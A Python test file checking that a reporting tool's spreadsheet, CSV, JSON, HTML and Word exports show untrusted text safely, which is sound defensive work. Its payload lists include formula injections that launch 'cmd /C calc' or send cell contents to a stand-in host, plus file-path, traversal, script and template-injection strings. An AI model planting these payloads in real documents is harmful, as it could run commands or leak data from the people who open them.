"""What a stranger wrote is text in every file of a package: never a formula, a link, a script or a path."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from html.parser import HTMLParser

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from reporting.channel import REPLY_COLUMNS, load_channels
from reporting.columns import COLUMN_KEYS, COLUMNS
from reporting.render.letter import letter_docx
from reporting.render.page import index_html
from reporting.render.reply_form import reply_form, result_words
from reporting.render.sheets import CUT, MAX_CELL, cell_text, guarded, lines_json, table_csv, table_xlsx

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test/?x="&A1,"点这里")',
    '=IMPORTXML(CONCAT("http://evil.test/",A1),"//a")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '";=1+1;"',
    '=DDE("cmd","/C calc","x")',
    "{=1+1}",
]
LINKS = [
    "http://evil.test/a",
    "https://evil.test",
    "ftp://evil.test/x",
    "mailto:a@evil.test",
    "file:///etc/passwd",
    "external:\\\\evil\\share\\x.xlsx",
    "internal:Sheet2!A1",
    "\\\\evil\\share",
    "javascript:alert(1)",
    "../../../etc/passwd",
    "..\\..\\windows\\system32",
    "C:\\Windows\\system.ini",
]
HIDDEN = [
    "\u202e gnp.exe",
    "停\u200b息\u200c挂\u2060账",
    "a\u2066b\u2069",
    "\ufeff=1+1",
    "\ud800 lone",
    "\x01\x08\x0b\x1f",
    "\ufffe\uffff",
    "😀" * 10,
]
MARKUP = [
    "_x0041_ _x000D_",
    "<script>X()</script>",
    '"><img src=x onerror=X()>',
    "{{ 7*7 }}",
    "{% raw %}",
    "<![CDATA[x]]>",
    "&lt;b&gt;",
]
PAYLOADS = [*FORMULAS, *LINKS, *HIDDEN, *MARKUP]

COLUMNS_SHOWN = [(column.key, column.title) for column in COLUMNS]
SPEC = load_channels()["partner_desk"].spec


def row_of(payload: str) -> dict[str, object]:
    values: dict[str, object] = dict.fromkeys(COLUMN_KEYS, payload)
    return values | {"item": "i1", "attempt": 1, "earlier_items": [], "contacts": [payload], "evidence": []}


ROWS = [row_of(payload) for payload in PAYLOADS]


def parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}


@pytest.mark.parametrize("data", [table_xlsx("clues", COLUMNS_SHOWN, ROWS), reply_form(SPEC.reply, ROWS)])
def test_workbook_holds_no_formula_no_link_and_no_outside_part(data: bytes) -> None:
    found = parts(data)
    for name, text in found.items():
        assert not re.search(r"<f[ >/]|<hyperlink|ddeLink|oleLink|externalReference", text), name
        assert 'TargetMode="External"' not in text, name
    assert not [name for name in found if "external" in name.lower() or "vba" in name.lower()]


def test_workbook_gives_every_text_back() -> None:
    book = openpyxl.load_workbook(io.BytesIO(table_xlsx("clues", COLUMNS_SHOWN, ROWS)))
    sheet = book["clues"]
    assert [cell.value for cell in sheet[1]] == [title for _, title in COLUMNS_SHOWN]
    place = COLUMN_KEYS.index("excerpt") + 1
    for line, payload in enumerate(PAYLOADS, 2):
        cell = sheet.cell(line, place)
        assert cell.data_type in {"s", "n"}  # n: an empty cell
        assert unescape(cell.value or "") == cell_text(payload)  # Excel itself reads _x005F_ as _
        assert cell.hyperlink is None


def test_csv_guards_what_looks_like_a_formula_and_nothing_else() -> None:
    text = table_csv(COLUMNS_SHOWN, ROWS).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text, newline="")))
    assert len(lines) == len(ROWS) + 1
    place = COLUMN_KEYS.index("excerpt")
    for payload, line in zip(PAYLOADS, lines[1:], strict=True):
        cell = line[place]
        assert not re.match(r"[ \u3000]*[=+\-@\t\r\n\0＝＋－＠]", cell)
        assert cell.removeprefix("'") == cell_text(payload)
        assert guarded("普通文字") == "普通文字"


@pytest.mark.parametrize("payload", ["=1", "\t=1", "  +1", "＝1", "\0=1", "-1"])
def test_guard_stands_before_the_formula(payload: str) -> None:
    assert guarded(payload) == f"'{payload}"


def test_json_lines_give_everything_back_and_show_what_hides() -> None:
    data = lines_json(ROWS)
    assert data.count(b"\n") == len(ROWS)
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b-\u200f\ufeff]", data.decode())
    for row, line in zip(ROWS, data.decode().splitlines(), strict=True):
        assert json.loads(line) == row


class Tags(HTMLParser):
    """Collects the tags of a page with their attributes, and its text."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


TAGS = ("html", "head", "meta", "title", "style", "body", "h1", "h2", "table", "tr", "th", "td")


def page_of(rows: list[dict[str, object]], fact: str = "x") -> Tags:
    facts = dict.fromkeys(("batch", "subject", "institution", "channel", "count", "date"), fact)
    tags = Tags()
    tags.feed(index_html(facts, COLUMNS_SHOWN, rows).decode())
    return tags


def test_page_shows_payloads_as_text() -> None:
    page = page_of(ROWS, "<script>X()</script>")
    assert {tag for tag, _ in page.found} == set(TAGS)
    assert {name for _, attributes in page.found for name in attributes} == {
        "lang",
        "charset",
        "http-equiv",
        "content",
        "name",
        "id",
    }
    for payload in PAYLOADS:
        assert cell_text(payload) in page.text
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", page.text)


def test_page_loads_only_the_pictures_of_the_package() -> None:
    page = page_of([row_of("x") | {"evidence": ["evidence/i1/post.json", "evidence/i1/post.png"]}])
    assert [attributes["src"] for tag, attributes in page.found if tag == "img"] == ["evidence/i1/post.png"]
    policies = [attributes["content"] for _, attributes in page.found if "http-equiv" in attributes]
    assert "default-src 'none'" in str(policies)


def test_letter_shows_payloads_as_text() -> None:
    channel = load_channels()["partner_desk"]
    facts = dict.fromkeys(
        ("subject", "recipient", "institution", "contact", "batch", "count", "date"), "<w:p>&{{ 1 }}"
    )
    found = parts(letter_docx(channel.template.read_bytes(), facts, ROWS))
    document = found["word/document.xml"]
    assert "{{ 7*7 }}" in document
    assert "&lt;script&gt;" in document
    assert "w:hyperlink" not in document
    assert 'TargetMode="External"' not in "".join(found.values())


@pytest.mark.parametrize("text", ["长" * 40_000, "😀" * 20_000])
def test_text_is_cut_where_a_cell_ends_and_says_so(text: str) -> None:
    shown = cell_text(text)
    assert len(shown.encode("utf-16-le")) // 2 <= MAX_CELL
    assert shown.endswith(CUT)
    book = openpyxl.load_workbook(io.BytesIO(table_xlsx("x", [("a", "a")], [{"a": text}])))
    assert book["x"]["A2"].value == shown


def test_reply_form_locks_ids_and_offers_the_words_of_the_channel() -> None:
    rows = [row_of("https://forum.test/a") | {"item": f"i{number}"} for number in range(1, 4)]
    book = openpyxl.load_workbook(io.BytesIO(reply_form(SPEC.reply, rows)))
    sheet = book["reply"]
    assert [cell.value for cell in sheet[1]] == list(REPLY_COLUMNS)
    assert [sheet.cell(line, 1).value for line in (2, 3, 4)] == ["i1", "i2", "i3"]
    assert sheet.protection.sheet
    assert [sheet.cell(2, place).protection.locked for place in (1, 2, 3, 4)] == [True, True, False, False]
    (choice,) = sheet.data_validations.dataValidation
    assert str(choice.sqref) == "C2:C4"
    assert [cell.value for cell in book["words"]["A"]] == result_words(SPEC.reply)


@pytest.mark.parametrize(
    "make", [lambda: table_xlsx("clues", COLUMNS_SHOWN, ROWS), lambda: reply_form(SPEC.reply, ROWS)]
)
def test_workbooks_are_the_same_every_time(make: object) -> None:
    assert make() == make()  # type: ignore[operator]  # a function
